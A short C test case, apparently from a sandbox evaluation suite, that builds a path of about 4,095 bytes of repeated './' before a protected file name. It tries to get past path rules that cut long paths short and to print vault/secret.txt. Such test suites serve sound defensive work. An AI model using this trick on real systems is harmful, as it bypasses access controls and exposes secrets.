/* technique: names the forbidden file by a path of 4,095 bytes
 * source: reference study 4.3 #2 and #9: rules and paths cut short; path_resolution(7)
 * success: the content of vault/secret.txt on the output
 * control: outside
 */
#include "attack.h"

int main(void)
{
	char path[4096];
	size_t room = sizeof path - sizeof SECRET_FILE;
	size_t at = 0;

	while (at + 2 <= room) {
		memcpy(path + at, "./", 2);
		at += 2;
	}
	strcpy(path + at, SECRET_FILE);
	return show_path(path);
}
